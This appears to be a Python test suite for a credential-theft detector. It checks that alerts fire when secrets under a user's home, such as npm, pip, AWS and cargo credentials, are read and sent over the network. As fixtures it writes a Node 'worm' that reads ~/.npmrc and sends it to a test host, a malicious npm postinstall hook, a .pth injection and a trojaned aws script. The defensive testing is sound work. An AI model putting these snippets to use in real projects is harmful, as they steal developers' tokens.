#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Tools below the home of their user, which a rule with ~/ names: no alerts under the default policy. Beside each,
thefts by other programs of that user, and through the same one."""

import os
import shlex
import shutil
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import scene as stage
from registry import PORT, Registry

import harness
import tap
from net import HOST_V4
from tap import Skip, require, require_equal

NODE_DIRECTORY = ".nvm/versions/node/v20.0.0"
# No rule names it; nobody listens there.
OTHER_PORT = 9999
TIMEOUT = 120
WORM = f"""
const secret = require("fs").readFileSync(process.env.HOME + "/.npmrc");
require("net").connect(443, "{HOST_V4}").on("error", () => {{}}).end(secret);
"""


def stolen(s, command, path, user="ana", port=443, by="", status=None, **kwargs):
    """The command raises an alert for this file, to this port, by an executable whose path contains `by`."""
    before = s.alerts_so_far()
    result = s.run(command, user, timeout=TIMEOUT, needs="/usr/bin/env", **kwargs)
    said = f"{result.returncode}: {result.stdout[-1000:]}{result.stderr[-1000:]}"
    require(status in (None, result.returncode), said)
    s.bw.prove_delivered(s.net, s.home)
    found = [a for a in s.bw.alerts[before:] if harness.touches(a, path.encode()) and
             a["destination"]["port"] == port and by in a["process"]["exe"]]
    require(found, f"no alert of {path} to port {port} by {command}\n{said}")
    return found[0]["process"]["flags"]


class Home:
    """What ana has installed: node and npm, as nvm does."""

    def __init__(self, s):
        self.s, self.path = s, s.world.home_of("ana")
        self.bin = f"{self.path}/{NODE_DIRECTORY}/bin"
        self.npm = ["npm", "--no-update-notifier", "--no-audit", "--no-fund", "--loglevel=error", "--fetch-retries=0"]
        # Not in that of the system: another npm may be there.
        self.search = f"{self.bin}:{stage.PATH}"

    def add_npm(self):
        node = shutil.which("node", path=stage.PATH)
        if not node:
            raise Skip("nodejs is not installed", environment=True)
        self.s.world.do("sh", "-ec", f"""
            cd; mkdir -p {NODE_DIRECTORY}/bin {NODE_DIRECTORY}/lib/node_modules/npm Downloads
            cp -L {node} {NODE_DIRECTORY}/bin/node
            tar -xzf - -C {NODE_DIRECTORY}/lib/node_modules/npm --strip-components=1 <"$1"
            chmod 755 {NODE_DIRECTORY}/lib/node_modules/npm/bin/npm-cli.js
            ln -s ../lib/node_modules/npm/bin/npm-cli.js {NODE_DIRECTORY}/bin/npm
        """, "sh", stage.npm_tarball(), user="ana")

    def run_npm(self, *arguments):
        return ["sh", "-c", shlex.join([*self.npm, *arguments])]


def npm(s, registry, home):
    """The token is used, also after "npm config" has written it, and the script of a package downloads a file."""
    home.add_npm()
    s.world.write("ana", ".npmrc", registry.npmrc())
    s.world.write("ana", "application/package.json", '{"name":"application","version":"1.0.0"}', 0o644)
    registry.asked.clear()
    out = s.silent(home.run_npm("view", "honest", "version"), "ana", timeout=TIMEOUT, PATH=home.search)
    require("1.0.0" in out, out)
    s.silent(home.run_npm("config", "set", "fund=false"), "ana", timeout=TIMEOUT, PATH=home.search)
    s.silent(home.run_npm("install", "--foreground-scripts", "--prefix", f"{home.path}/application", "honest"), "ana",
             timeout=TIMEOUT, PATH=home.search)
    require("/honest" in registry.asked, f"npm showed no token: {registry.asked}")
    require_equal(s.world.do("cat", f"{home.path}/application/node_modules/honest/built", user="ana"), "hello\n",
                  "what the package's script made")
    s.theft(f"{home.path}/.npmrc", "npm-registries")


def npm_thieves(s, registry, home):
    """Other code with the same node, and with npm itself."""
    rc = s.world.write("ana", ".npmrc", registry.npmrc())
    worm = s.world.write("ana", "evil.js", WORM, 0o644)
    stolen(s, ["node", worm], rc, by=NODE_DIRECTORY, status=0, PATH=home.search)
    # With a script that the rule names as an argument, which is no file.
    stolen(s, ["node", "-r", worm, f"{home.bin}/npm", "--version"], rc, by=NODE_DIRECTORY, PATH=home.search)
    stolen(s, ["sh", "-c", f"{shlex.join(['cp', worm, home.bin + '/../lib/node_modules/npm/bin/npx-cli.js'])}; "
               f"exec node {home.path}/{NODE_DIRECTORY}/lib/node_modules/npm/bin/npx-cli.js"], rc, by=NODE_DIRECTORY,
           PATH=home.search)
    stolen(s, home.run_npm("--version"), rc, by=NODE_DIRECTORY, PATH=home.search, NODE_OPTIONS=f"--require={worm}")
    stolen(s, home.run_npm("install", "--foreground-scripts", "--prefix", f"{home.path}/application", "worm"), rc,
           by=NODE_DIRECTORY, PATH=home.search)
    # To another server, and a file of another tool.
    stolen(s, home.run_npm("view", "honest", f"--registry=http://{HOST_V4}:{OTHER_PORT}/"), rc, port=OTHER_PORT,
           by=NODE_DIRECTORY, PATH=home.search)
    token = s.world.write("ana", ".pypirc", "[pypi]\npassword=decoy\n")
    s.world.write("ana", "package.json", '{"name":"published","version":"1.0.0","files":[".pypirc"]}', 0o644)
    stolen(s, home.run_npm("publish"), token, port=PORT, by=NODE_DIRECTORY, PATH=home.search)


def npm_void(s, registry, home):
    """The same programs, where somebody else may have changed them, or with somebody else's file."""
    rc = s.world.write("ana", ".npmrc", registry.npmrc())
    view = home.run_npm("view", "honest")

    def alerts(path=rc, user="ana", search=home.search):
        # What such a process writes is marked: it has a cache of its own.
        stolen(s, view, path, user, port=PORT, by="/node", PATH=search,
               npm_config_cache=s.world.home_of(user) + "/other")

    for name in (f"{home.bin}/node", f"{home.path}/{NODE_DIRECTORY}/lib/node_modules/npm/bin/npm-cli.js", home.bin):
        s.world.do("chmod", "o+w", name)
        alerts()
        s.world.do("chmod", "o-w", name)
    # A private group is the user; any other is not.
    s.world.do("chmod", "g+w", f"{home.bin}/node")
    s.silent(view, "ana", timeout=TIMEOUT, PATH=home.search)
    s.world.do("chgrp", "mail", f"{home.bin}/node")
    alerts()
    s.world.do("sh", "-c", f"chgrp ana {home.bin}/node; chmod g-w {home.bin}/node")
    alerts(s.world.write("root", ".npmrc", registry.npmrc()), "root")
    # A copy elsewhere, which the same script finds first.
    s.world.do("cp", f"{home.bin}/node", f"{home.path}/Downloads/node", user="ana")
    alerts(search=f"{home.path}/Downloads:{home.search}")
    s.silent(view, "ana", timeout=TIMEOUT, PATH=home.search)


def venv(s, registry, home):
    """pip of a virtual environment."""
    s.world.do("sh", "-ec", "cd; /usr/bin/python3 -m venv venv; mkdir -p Downloads", user="ana")
    conf = s.world.write("ana", ".config/pip/pip.conf", registry.pip_conf())
    download = ["download", "-q", "--disable-pip-version-check", "--no-cache-dir", "-d", f"{home.path}/wheels",
                "honestwheel"]
    pip = [f"{home.path}/venv/bin/pip", *download]
    registry.asked.clear()
    s.silent(pip, "ana", timeout=TIMEOUT)
    require("/simple/honestwheel/" in registry.asked, f"pip showed no token: {registry.asked}")
    s.silent(["sh", "-c", f". ./venv/bin/activate; {shlex.join(['pip', *download])}"], "ana", timeout=TIMEOUT)
    # Another script, and the same one elsewhere.
    thief = s.world.write("ana", "thief.py", stage.THIEF)
    stolen(s, [f"{home.path}/venv/bin/python3", thief, conf, HOST_V4], conf, by="/python3", status=0)
    s.world.do("cp", f"{home.path}/venv/bin/pip", f"{home.path}/Downloads/pip", user="ana")
    stolen(s, [f"{home.path}/Downloads/pip", *download], conf, port=PORT, by="/python3", status=0)
    # To another server; and by code that the environment loads by itself.
    stolen(s, [*pip, "-i", f"http://x@{HOST_V4}:{OTHER_PORT}/simple", "--trusted-host", HOST_V4, "--retries=0"], conf,
           port=OTHER_PORT, by="/python3")
    sites = s.world.do("sh", "-c", f"echo {home.path}/venv/lib/python3*/site-packages", user="ana").strip()
    pth = s.world.write("ana", f"{sites}/x.pth", "import socket; secret = open('" + conf + "').read(); "
                        f"socket.create_connection(('{HOST_V4}', 22))\n")
    stolen(s, pip, conf, port=22, by="/python3")
    s.world.do("rm", pth)


def code(s, registry, home):
    """Scripts of root's, before whose code Python runs that of a user."""
    aws = s.world.write("ana", ".aws/credentials", "decoy\n")
    s.world.do("sh", "-c", "cat >/usr/local/bin/aws; chmod 755 /usr/local/bin/aws",
               stdin=f"#!/usr/bin/python3\n{stage.THIEF}")
    conf = s.world.write("ana", ".config/pip/pip.conf", registry.pip_conf())
    version = os.path.basename(os.path.realpath("/usr/bin/python3"))
    sites, all_sites = f".local/lib/{version}/site-packages", f"/usr/local/lib/{version}/dist-packages"
    programs = ((aws, 443, ["/usr/local/bin/aws", aws, HOST_V4]),
                (conf, PORT, ["/usr/bin/pip3", "download", "-q", "--disable-pip-version-check", "--no-cache-dir", "-d",
                              f"{home.path}/wheels", "honestwheel"]))
    # Root's own code is the system's.
    s.world.do("sh", "-ec", f"mkdir -p {all_sites}; echo import sys >{all_sites}/system.pth")
    for path, port, command in programs:
        s.silent(command, "ana", timeout=TIMEOUT, needs="/usr/bin/env")
        for name in ("x.pth", "usercustomize.py"):
            file = s.world.write("ana", f"{sites}/{name}", "import sys\n", 0o644)
            stolen(s, command, path, port=port, by="/python3", status=0)
            s.world.do("rm", file)
        s.silent(command, "ana", timeout=TIMEOUT, needs="/usr/bin/env")


def stand_in(s, home, program, secret, other):
    """A program that is not in Debian, replaced by another one at its path; `other` is a file of another family."""
    path, other = s.world.write("ana", secret, "decoy\n"), s.world.write("ana", other, "decoy\n")
    program = f"{home.path}/{program}"
    s.world.do("sh", "-ec", 'mkdir -p "${2%/*}" Downloads; cp "$1" "$2"; cp "$1" "Downloads/${2##*/}"', "sh",
               harness.program("technique-out-tcp"), program, user="ana")
    s.silent([program, "blocking", path, HOST_V4, "443"], "ana", needs="/usr/bin/env")
    # What tells barbwirectl that a rule with ~/ may be about it.
    flags = stolen(s, [program, "blocking", path, HOST_V4, str(OTHER_PORT)], path, port=OTHER_PORT, by=program)
    require({"not-roots", "users"} <= set(flags), f"flags: {flags}")
    s.world.do("chmod", "o+w", program)
    flags = stolen(s, [program, "blocking", path, HOST_V4, "443"], path, by=program)
    require("users" not in flags, f"flags, when others can write it: {flags}")
    s.world.do("chmod", "o-w", program)
    stolen(s, [program, "blocking", other, HOST_V4, "443"], other, by=program)
    flags = stolen(s, [f"{home.path}/Downloads/{os.path.basename(program)}", "blocking", path, HOST_V4, "443"], path,
                   by="/Downloads/")
    require("users" in flags, f"flags of a program that no rule names: {flags}")
    stolen(s, [program, "blocking", path, HOST_V4, "443"], path, "root", by=program)
    # Another user's file, which she may read.
    s.world.do("sh", "-c", f"chown daemon {path}; chmod 644 {path}")
    stolen(s, [program, "blocking", path, HOST_V4, "443"], path, by=program)
    s.world.do("rm", path)


def main():
    t = tap.Tap()
    with stage.scene() as s, Registry(s.net, HOST_V4) as registry:
        registry.add_npm("honest", files={"build.js": f"""
            const http = require("http"), fs = require("fs");
            http.get("{stage.URL}", r => r.pipe(fs.createWriteStream("built")));
        """}, scripts={"postinstall": "node build.js"})
        registry.add_npm("worm", files={"worm.js": WORM}, scripts={"postinstall": "node worm.js"})
        registry.add_wheel("honestwheel")
        home = Home(s)
        t.case("(theft) code in a home that the system's scripts load", code, s, registry, home)
        t.case("npm of nvm", npm, s, registry, home)
        t.case("(theft) with node and npm of nvm", npm_thieves, s, registry, home)
        t.case("(theft) npm of nvm, where others may change it", npm_void, s, registry, home)
        t.case("pip of a virtual environment, and thefts with it", venv, s, registry, home)
        for program, secret, other in ((".cargo/bin/cargo", ".cargo/credentials.toml", ".aws/credentials"),
                                       (".rustup/toolchains/stable/bin/cargo", ".cargo/credentials.toml", ".npmrc"),
                                       (".local/bin/gh", ".config/gh/hosts.yml", ".npmrc"),
                                       (".local/bin/uv", ".config/uv/credentials.toml", ".git-credentials")):
            t.case(f"~/{program}, and thefts with it", stand_in, s, home, program, secret, other)
        t.case("no loss", stage.no_loss, s.bw)
    t.done()


if __name__ == "__main__":
    main()
